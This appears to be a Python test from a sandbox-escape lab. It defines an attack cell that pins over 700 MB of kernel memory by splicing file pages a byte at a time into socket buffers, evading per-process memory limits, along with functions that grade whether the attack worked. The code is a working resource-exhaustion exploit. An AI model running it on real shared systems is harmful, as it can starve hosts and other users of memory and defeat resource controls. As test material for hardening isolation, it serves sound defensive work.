"""Wants the machine's memory, by pages of a file that are spliced into sockets a byte at a time, and counted as bytes.

Won: more than the limit (700 MB) was held.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "memory_is_in_processes"
CELL = """
import os, socket
kept, had = [], 0
place = os.open("/tmp/place", os.O_RDWR | os.O_CREAT)
read, write = os.pipe()
try:
    for _ in range(45):
        kept += socket.socketpair()
        kept[-1].setblocking(False)
        try:
            while True:
                os.pwrite(place, b"x" * (16 << 12), 0)
                for number in range(16):
                    os.splice(place, write, 1, offset_src=number << 12)
                os.splice(read, kept[-1].fileno(), 16, flags=2)
                os.ftruncate(place, 0)
                had += 16 << 12
        except BlockingIOError:
            os.read(read, 99)
except OSError as error:
    raise Exception(f"no splice: {error}") from None
if had > 700 << 20:
    raise Exception(f"LOOT {had >> 20} MB")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It tried."""
    return "LOOT" in evidence.loot or "no splice" in evidence.told or "TimeLimit" in evidence.ended
